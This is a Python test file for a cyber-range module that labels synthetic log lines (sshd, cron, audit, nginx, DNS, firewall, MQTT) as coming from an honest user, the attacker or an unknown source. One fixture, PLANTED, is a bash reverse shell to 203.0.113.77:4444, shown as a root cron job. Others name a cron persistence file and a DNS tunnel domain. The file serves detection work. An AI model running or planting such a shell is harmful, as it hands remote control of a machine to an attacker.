# SPDX-License-Identifier: Apache-2.0
"""Who caused a recorded line is worked out from addresses, processes, clients and the story, and from nothing else."""

import json
import pathlib
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "range"))
import labels  # noqa: E402

BEGIN = labels.seconds("2026-11-28T12:00:00+00:00")
PLANTED = '/bin/bash -c "exec /bin/bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"'
ALICE, ATTACKER, CONTROL, WEB = "10.20.0.21", "203.0.113.66", "203.0.113.77", "192.0.2.10"


def at(second):
    return f"2026-11-28T12:00:{second:02d}.500000+00:00"


def story():
    steps = [{"name": "port-scan", "begin": BEGIN}, {"name": "break-in", "begin": BEGIN + 20},
             {"name": "dns-tunnel", "begin": BEGIN + 40}]
    return labels.Story(steps, PLANTED, "/etc/cron.d/sysupdate", "cdn-metrics.example", {"4444": "reverse-shell"},
                        {"time.example"})


def short(found):
    return [(one["label"], one["actor"], one["step"]) for one in found]


class Sessions(unittest.TestCase):
    """sshd's listener is 10; it forks 20 for alice and 30 for the attacker."""
    def setUp(self):
        self.story = story()
        forks = [(10, 20), (20, 21), (21, 22), (10, 30), (30, 31), (31, 32), (32, 33), (5, 50), (50, 51), (51, 52),
                 (5, 60), (60, 61)]
        self.processes = labels.Processes([{"parent": parent, "pid": pid} for parent, pid in forks], self.story)
        self.auth = [
            f"{at(1)} web-1 sshd[10]: Server listening on 0.0.0.0 port 22.",
            f"{at(10)} web-1 sshd[20]: Accepted publickey for alice from {ALICE} port 4000 ssh2",
            f"{at(25)} web-1 sshd[30]: Accepted password for support from {ATTACKER} port 4001 ssh2",
            f"{at(45)} web-1 sshd[30]: pam_unix(sshd:session): session closed for user support",
            f"{at(46)} web-1 sshd[31]: Disconnected from user support {ATTACKER} port 4001",
        ]
        self.processes.learn_sshd(self.auth)
        self.cron = [
            f"{at(1)} web-1 cron[5]: (CRON) INFO (Running @reboot jobs)",
            f"{at(2)} web-1 CRON[51]: (root) CMD ({PLANTED})",
            f"{at(2)} web-1 CRON[61]: (root) CMD (/usr/local/bin/backup-shop)",
        ]
        self.processes.learn_cron(self.cron)

    def of_syslog(self, *lines):
        return short(labels.of_syslog(lines, self.processes, self.story))

    def test_of_sshd_belong_to_the_address_of_their_process(self):
        self.assertEqual([("honest", "server", None), ("honest", "desk-alice", None),
                          ("attack", "attacker", "break-in"), ("attack", "attacker", "break-in"),
                          ("attack", "attacker", "break-in")], self.of_syslog(*self.auth))

    def test_give_what_they_started_to_the_same_peer_and_step(self):
        self.assertEqual([("attack", "attacker", "break-in"), ("honest", "desk-alice", None)],
                         self.of_syslog(f"{at(50)} web-1 sudo[33]:  support : PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
                                        f"{at(50)} web-1 useradd[22]: new user: name=guest"))

    def test_of_cron_belong_to_the_command_that_was_run(self):
        self.assertEqual([("honest", "server", None), ("attack", "control", "reverse-shell"), ("honest", "cron", None)],
                         self.of_syslog(*self.cron))
        self.assertEqual(
            [("attack", "control", "reverse-shell"), ("honest", "cron", None)],
            self.of_syslog(
                f"{at(2)} web-1 CRON[50]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                f"{at(2)} web-1 CRON[60]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))

    def test_that_name_the_planted_file_are_the_intruders(self):
        self.assertEqual([("attack", "attacker", "cron-persistence")],
                         self.of_syslog(f"{at(2)} web-1 cron[5]: (*system*sysupdate) RELOAD (/etc/cron.d/sysupdate)"))

    def test_without_a_process_are_decided_only_by_a_user_whom_the_intruder_never_was(self):
        line = "{} web-1 sudo: pam_unix(sudo:auth): authentication failure; logname= uid=1 euid=0 tty= ruser={} rhost=  user={}"
        self.assertEqual([("honest", "carol", None), ("undecided", "unknown", None)],
                         self.of_syslog(line.format(at(3), "carol", "carol"), line.format(at(3), "support", "support")))

    def test_are_undecided_where_nothing_tells(self):
        self.assertEqual([("undecided", "unknown", None)] * 2,
                         self.of_syslog(f"{at(3)} web-1 su[99]: (to root) root", "no line of syslog"))

    def test_label_every_line_of_an_audit_event(self):
        lines = [
            "node=web-1 type=SYSCALL msg=audit(1.000:7): syscall=59 ppid=32 pid=33 exe=\"/usr/bin/id\"",
            "node=web-1 type=EXECVE msg=audit(1.000:7): argc=1 a0=\"id\"",
            "node=web-1 type=SYSCALL msg=audit(1.000:8): syscall=59 ppid=1 pid=77 exe=\"/usr/sbin/nginx\"",
            "node=web-1 type=EXECVE msg=audit(1.000:9): argc=1 a0=\"id\""
        ]
        self.assertEqual([("attack", "attacker", "break-in")] * 2 + [("honest", "server", None),
                                                                     ("undecided", "unknown", None)],
                         short(labels.of_audit(lines, self.processes)))


class Lines(unittest.TestCase):
    def test_of_the_web_server_belong_to_their_address_and_to_the_step_of_their_second(self):
        line = '{} - - [28/Nov/2026:12:00:{:02d} +0000] "GET / HTTP/1.1" 200 1 "-" "x"'
        self.assertEqual([("honest", "visitor-1", None), ("attack", "attacker", "port-scan"),
                          ("attack", "attacker", "break-in"), ("undecided", "unknown", None)],
                         short(
                             labels.of_access([
                                 line.format("198.51.100.40", 1),
                                 line.format(ATTACKER, 18),
                                 line.format(ATTACKER, 20),
                                 line.format("8.8.8.8", 20)
                             ], story())))

    def test_of_its_error_log_belong_to_the_client(self):
        lines = [
            f'2026/11/28 12:00:05 [error] 1#1: *9 open() failed, client: {ATTACKER}, server: x, request: "GET /a, client: {ALICE}, HTTP/1.1"',
            "2026/11/28 12:00:05 [notice] 1#1: signal process started"
        ]
        self.assertEqual([("attack", "attacker", "port-scan"), ("undecided", "unknown", None)],
                         short(labels.of_error(lines, story())))

    def test_of_the_application_belong_to_the_source(self):
        lines = [
            json.dumps({"@timestamp": "2026-11-28T12:00:21.000Z", "source.ip": address})
            for address in (ATTACKER, ALICE, "127.0.0.1")
        ]
        self.assertEqual([("attack", "attacker", "break-in"), ("honest", "desk-alice", None),
                          ("honest", "server", None)], short(labels.of_application(lines, story())))

    def test_of_the_name_server_belong_to_the_name(self):
        line = "2026-11-28T12:00:01.000Z queries: info: client @0x7f {}#53 ({}): query: {} IN A +E(0)K (10.20.0.53)"
        lines = [
            line.format(WEB, name, name)
            for name in ("aB\\(.t.cdn-metrics.example", "time.example", "elsewhere.example")
        ]
        self.assertEqual([("attack", "web-1", "dns-tunnel"), ("honest", "web-1", None), ("undecided", "unknown", None)],
                         short(labels.of_queries(lines, story())))

    def test_of_the_packet_filter_belong_to_either_end(self):
        line = at(25) + " gw-1 ulogd[1]: fw-accept IN=a OUT=b MAC= SRC={} DST={} LEN=60 PROTO=TCP SPT={} DPT={} SEQ=1"
        query = f"2026-11-28T12:00:25.000Z queries: info: client @0x7f {WEB}#5353 (x.t.cdn-metrics.example): query: x IN NULL"
        queries = [(query, labels.label("attack", "web-1", "dns-tunnel"))]
        lines = [
            line.format(ATTACKER, WEB, 1, 22),
            line.format(WEB, CONTROL, 1, 4444),
            line.format(WEB, "10.20.0.60", 1, 1883),
            line.format(WEB, "10.20.0.53", 5353, 53),
            line.format(WEB, "10.20.0.53", 5354, 53),
            line.format(ALICE, WEB, 1, 22)
        ]
        self.assertEqual([("attack", "attacker", "break-in"), ("attack", "control", "reverse-shell"),
                          ("attack", "attacker", "things"), ("attack", "web-1", "dns-tunnel"),
                          ("undecided", "unknown", None), ("honest", "desk-alice", None)],
                         short(labels.of_packets(lines, story(), queries)))

    def test_of_the_broker_belong_to_the_client_whose_connection_it_was(self):
        texts = [
            f"New client connected from {WEB}:9 as explorer (p2, c1, k60).", "No will message specified.",
            "#011# (QoS 0)", "New client connected from 10.20.0.73:9 as lock-1 (p2, c1, k60).",
            "Received PUBLISH from lock-1 (d0, q0, r0, m0, 'a', ... (1 bytes))",
            "Sending PUBLISH to explorer (d0, q0, r0, m0, 'a', ... (1 bytes))",
            "Received PUBLISH from explorer (d0, q0, r0, m0, 'b', ... (1 bytes))",
            "Sending PUBLISH to lock-1 (d0, q0, r0, m0, 'b', ... (1 bytes))", "Client stranger disconnected."
        ]
        lines = [f"{at(1)} iot-1 mosquitto[3]: 1795873186: {text}" for text in texts]
        attack, lock = ("attack", "attacker", "things"), ("honest", "lock-1", None)
        self.assertEqual([attack, attack, attack, lock, lock, attack, attack, attack, ("undecided", "unknown", None)],
                         short(labels.of_broker(lines, story())))


class Files(unittest.TestCase):
    def test_of_labels_hold_a_line_for_each_run(self):
        one, other = labels.label("attack", "attacker", "break-in"), labels.label("honest", "server")
        written = [
            json.loads(line)
            for line in labels.as_jsonl({"web-1/a.log": [one, one, other]}, {"break-in": ("T1078", )}).splitlines()
        ]
        self.assertEqual(
            [("web-1/a.log", 1, 2, "storyline", "break-in", ["T1078"]),
             ("web-1/a.log", 3, 3, "background", None, None)],
            [(run["file"], run["line"], run["last_line"], run["section"], run.get("step"), run.get("techniques"))
             for run in written])


if __name__ == "__main__":
    unittest.main()
